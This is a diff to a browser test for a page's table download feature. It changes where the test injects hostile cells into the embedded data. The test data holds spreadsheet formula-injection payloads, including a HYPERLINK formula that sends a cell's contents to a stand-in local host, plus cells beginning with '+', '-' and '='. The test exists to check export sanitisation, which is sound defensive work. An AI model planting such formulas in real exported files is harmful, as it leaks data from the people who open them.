@@ -131,10 +131,10 @@ describe("downloads", () => {
     // The download is made from the table embedded in the page; put hostile cells in it, as text that slipped
     // past the data validation would arrive.
     await page.evaluate((sel) => {
-      const el = document.querySelector(`${sel} script[data-actions-config]`)!;
-      const c = JSON.parse(el.textContent!) as { prerendered: { columns: string[]; raw: unknown[][] } };
-      c.prerendered.columns = ["=label", "value"];
-      c.prerendered.raw = [
+      const el = document.querySelector(`${sel} script[data-payload]`)!;
+      const c = JSON.parse(el.textContent!) as { actions: { table: { columns: string[]; raw: unknown[][] } } };
+      c.actions.table.columns = ["=label", "value"];
+      c.actions.table.raw = [
         ['=HYPERLINK("http://127.0.0.1:9/leak?"&A2,"Click for details")', -5],
         ["+1+1", -0.25],
         ["-1+1", 0],
